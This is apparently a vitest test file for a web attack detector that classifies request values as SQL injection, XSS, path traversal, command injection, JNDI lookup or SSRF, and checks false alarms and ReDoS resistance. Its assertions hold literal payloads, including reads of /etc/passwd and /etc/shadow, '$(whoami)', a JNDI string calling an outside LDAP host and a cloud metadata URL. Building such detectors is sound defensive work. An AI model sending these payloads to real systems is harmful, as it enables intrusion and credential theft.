import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { parseCsv } from "../testing/csv";
import { attackKindsOf, attacksInRequest, decodeValue } from "./classify";

const SAMPLE = parseCsv(
  readFileSync(new URL("../../fixtures/payloads/http-params-sample.csv", import.meta.url), "utf8"),
).slice(1);

describe("attack payloads in request values", () => {
  it("finds the labelled attacks of a public dataset and nothing in its everyday values", () => {
    let found = 0;
    let attacks = 0;
    const falseAlarms: string[] = [];
    const recall: Record<string, [number, number]> = {};
    for (const [payload, type] of SAMPLE) {
      const kinds = attackKindsOf(payload!);
      if (type === "norm") {
        if (kinds.length) falseAlarms.push(payload!);
        continue;
      }
      attacks++;
      recall[type!] ??= [0, 0];
      recall[type!]![1]++;
      if (kinds.length) {
        found++;
        recall[type!]![0]++;
      }
    }
    expect(SAMPLE).toHaveLength(1_504);
    // 800 everyday values (names, addresses, emails, amounts, passwords): not one flagged.
    expect(falseAlarms).toEqual([]);
    // 0.977 when written (every miss is in bench/README.md); the whole test split: 0.995.
    expect(found / attacks).toBeGreaterThan(0.97);
    for (const [type, [hit, all]] of Object.entries(recall)) expect(hit / all, type).toBeGreaterThanOrEqual(0.9);
  });

  it("names the kind of attack", () => {
    expect(attackKindsOf("1' or '1'='1")).toEqual(["sqli"]);
    expect(attackKindsOf("-1 union all select null,null,concat(user(),0x3a)--")).toEqual(["sqli"]);
    expect(attackKindsOf("1) and sleep(5)#")).toEqual(["sqli"]);
    expect(attackKindsOf('"><svg onload=alert(document.domain)>')).toEqual(["xss"]);
    expect(attackKindsOf("%3Cscript%3Ealert(1)%3C%2Fscript%3E")).toEqual(["xss"]);
    expect(attackKindsOf("../../../../etc/passwd")).toEqual(["path-traversal"]);
    expect(attackKindsOf("..%252f..%252f..%252fwindows%252fwin.ini")).toEqual(["path-traversal"]);
    expect(attackKindsOf("; cat /etc/hosts")).toContain("cmdi");
    expect(attackKindsOf("$(whoami)")).toEqual(["cmdi"]);
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a JNDI lookup is literally this text
    expect(attackKindsOf("${jndi:ldap://198.51.100.7:1389/a}")).toEqual(["jndi"]);
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the obfuscated form, as sent
    expect(attackKindsOf("${${lower:j}ndi:dns://x.example/a}")).toEqual(["jndi"]);
    expect(attackKindsOf("http://169.254.169.254/latest/meta-data/iam/")).toEqual(["ssrf"]);
    expect(attackKindsOf("file:///etc/shadow")).toEqual(expect.arrayContaining(["ssrf", "path-traversal"]));
  });

  it("leaves everyday values alone, quotes, keywords and separators included", () => {
    for (const value of [
      "O'Brien",
      "d'Artagnan & co",
      "select a plan",
      "union square, san francisco",
      "rock & roll; live",
      "drop-off point",
      "1=1 is true",
      "ORDER-BY-2024",
      "/v1/users/42/orders",
      "https://shop.example.com/checkout?step=2",
      "a;b",
      "Ping pong",
      "catalogue",
      "50% off",
      "<3 love it",
      "script writer",
      "if (you) can",
      "100%25 cotton",
    ]) {
      expect({ value, kinds: attackKindsOf(value) }).toEqual({ value, kinds: [] });
    }
  });

  it("undoes the encodings attackers stack, and stops after three rounds", () => {
    expect(decodeValue("%253Cscript%253E")).toBe("<script>");
    expect(decodeValue("&#x3C;img src=x onerror=alert(1)&#x3E;")).toBe("<img src=x onerror=alert(1)>");
    expect(decodeValue("%25252525")).toBe("%25");
    // Bytes decode one by one (payloads are ASCII), so a cut or invalid sequence never throws.
    expect(decodeValue("%E0%A4%A")).toBe("\u00e0\u00a4%a");
  });
});

describe("attack payloads, hostile input", () => {
  // A guard against catastrophic backtracking (ReDoS), not a speed goal: a value takes well under a
  // millisecond, a backtracking pattern seconds.
  it("judges long crafted values without backtracking blow-ups", () => {
    const crafted = [
      `ping ${"-a    ".repeat(700)}`,
      `'${" ".repeat(4_000)})`,
      `${"../".repeat(1_400)}x`,
      `<a ${"a=b ".repeat(1_000)}`,
      `select ${"x ".repeat(2_000)}`,
      `${"%25".repeat(1_300)}41`,
    ];
    for (const value of crafted) {
      const started = performance.now();
      attackKindsOf(value);
      expect(performance.now() - started, value.slice(0, 20)).toBeLessThan(250);
    }
  });
});

describe("attacksInRequest", () => {
  it("unites the kinds found in the path and each query value", () => {
    expect(
      [...attacksInRequest("/files/..%2f..%2fetc%2fpasswd", [{ value: "1' OR '1'='1" }, { value: "shoes" }])].sort(),
    ).toEqual(["path-traversal", "sqli"]);
    expect(attacksInRequest("/v1/accounts/42", [{ value: "O'Brien" }])).toEqual([]);
    // A file asked for by its name is a probe for an exposed file, not traversal; in a parameter it is.
    expect(attacksInRequest("/web.config", [])).toEqual([]);
    expect(attacksInRequest("/download", [{ value: "web.config" }])).toEqual(["path-traversal"]);
    expect(attacksInRequest("/static/..%2f..%2fweb.config", [])).toEqual(["path-traversal"]);
  });
});
